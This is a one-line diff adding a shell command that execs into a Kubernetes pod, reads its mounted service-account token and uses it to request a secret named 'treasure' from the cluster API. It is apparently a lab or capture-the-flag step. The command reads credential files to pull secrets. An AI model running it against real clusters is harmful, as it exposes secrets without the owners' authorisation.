@@ -1,0 +1,1 @@
+kubectl exec probe -- sh -c 'd=/var/run/secrets/kubernetes.io/serviceaccount; curl -sk -H "Authorization: Bearer $(cat $d/token)" "https://kubernetes.default/api/v1/namespaces/$(cat $d/namespace)/secrets/treasure"'
